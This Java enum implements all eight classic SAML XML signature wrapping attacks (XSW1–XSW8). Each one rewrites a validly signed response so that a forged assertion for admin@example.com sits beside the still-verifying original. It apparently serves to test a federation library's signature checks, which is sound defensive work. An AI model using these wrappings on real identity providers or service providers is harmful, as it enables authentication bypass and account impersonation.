package org.gatehouse.federation.saml;

import java.io.StringReader;
import java.io.StringWriter;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.dom.DOMSource;
import javax.xml.transform.stream.StreamResult;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;
import org.xml.sax.InputSource;

/**
 * The eight classic forms of XML signature wrapping (Somorovsky et al., "On Breaking SAML", in the
 * numbering of SAML Raider): what was signed is still there and verifies, and beside it stands what
 * nobody signed.
 */
public enum Wrapping {
  /** The signed response within the signature of a forged one. */
  XSW1 {
    @Override
    void apply(Document document) {
      Element original = document.getDocumentElement();
      Element forged = (Element) original.cloneNode(true);
      Element signature = child(forged, "Signature");
      document.removeChild(original);
      original.removeChild(child(original, "Signature"));
      forge(forged);
      forged.setAttribute("ID", "_forged");
      document.appendChild(forged);
      signature.appendChild(original);
    }
  },
  /** The signed response before the signature of a forged one. */
  XSW2 {
    @Override
    void apply(Document document) {
      Element original = document.getDocumentElement();
      Element forged = (Element) original.cloneNode(true);
      Element signature = child(forged, "Signature");
      document.removeChild(original);
      original.removeChild(child(original, "Signature"));
      forge(forged);
      forged.setAttribute("ID", "_forged");
      document.appendChild(forged);
      forged.insertBefore(original, signature);
    }
  },
  /** A forged assertion before the signed one. */
  XSW3 {
    @Override
    void apply(Document document) {
      Element original = child(document.getDocumentElement(), "Assertion");
      document.getDocumentElement().insertBefore(forgedCopy(original, false), original);
    }
  },
  /** The signed assertion within a forged one. */
  XSW4 {
    @Override
    void apply(Document document) {
      Element original = child(document.getDocumentElement(), "Assertion");
      Element forged = forgedCopy(original, false);
      document.getDocumentElement().replaceChild(forged, original);
      forged.appendChild(original);
    }
  },
  /** The signature in a forged assertion, and what it signs behind that. */
  XSW5 {
    @Override
    void apply(Document document) {
      Element original = child(document.getDocumentElement(), "Assertion");
      Element forged = forgedCopy(original, true);
      document.getDocumentElement().replaceChild(forged, original);
      original.removeChild(child(original, "Signature"));
      document.getDocumentElement().appendChild(original);
    }
  },
  /** The signature in a forged assertion, and what it signs within the signature. */
  XSW6 {
    @Override
    void apply(Document document) {
      Element original = child(document.getDocumentElement(), "Assertion");
      Element forged = forgedCopy(original, true);
      document.getDocumentElement().replaceChild(forged, original);
      original.removeChild(child(original, "Signature"));
      child(forged, "Signature").appendChild(original);
    }
  },
  /** A forged assertion in the extensions of the response. */
  XSW7 {
    @Override
    void apply(Document document) {
      Element root = document.getDocumentElement();
      Element original = child(root, "Assertion");
      Element extensions =
          document.createElementNS(root.getNamespaceURI(), root.getPrefix() + ":Extensions");
      extensions.appendChild(forgedCopy(original, false));
      root.insertBefore(extensions, child(root, "Status"));
    }
  },
  /** What is signed in an object of the signature, which is in a forged assertion. */
  XSW8 {
    @Override
    void apply(Document document) {
      Element original = child(document.getDocumentElement(), "Assertion");
      Element forged = forgedCopy(original, true);
      Element signature = child(forged, "Signature");
      document.getDocumentElement().replaceChild(forged, original);
      original.removeChild(child(original, "Signature"));
      Element object =
          document.createElementNS(signature.getNamespaceURI(), signature.getPrefix() + ":Object");
      object.appendChild(original);
      signature.appendChild(object);
    }
  };

  abstract void apply(Document document);

  /** The response wrapped so. */
  public String wrap(String xml) {
    try {
      DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
      factory.setNamespaceAware(true);
      Document document =
          factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
      apply(document);
      StringWriter text = new StringWriter();
      TransformerFactory.newInstance()
          .newTransformer()
          .transform(new DOMSource(document), new StreamResult(text));
      return text.toString();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  private static Element forgedCopy(Element assertion, boolean signed) {
    Element forged = (Element) assertion.cloneNode(true);
    if (!signed) {
      forged.removeChild(child(forged, "Signature"));
    }
    forge(forged);
    forged.setAttribute("ID", "_forged");
    return forged;
  }

  private static void forge(Element element) {
    Node name = element.getElementsByTagNameNS("*", "NameID").item(0);
    name.setTextContent("admin@example.com");
  }

  private static Element child(Element parent, String name) {
    for (Node node = parent.getFirstChild(); node != null; node = node.getNextSibling()) {
      if (name.equals(node.getLocalName())) {
        return (Element) node;
      }
    }
    throw new IllegalStateException("no " + name);
  }
}
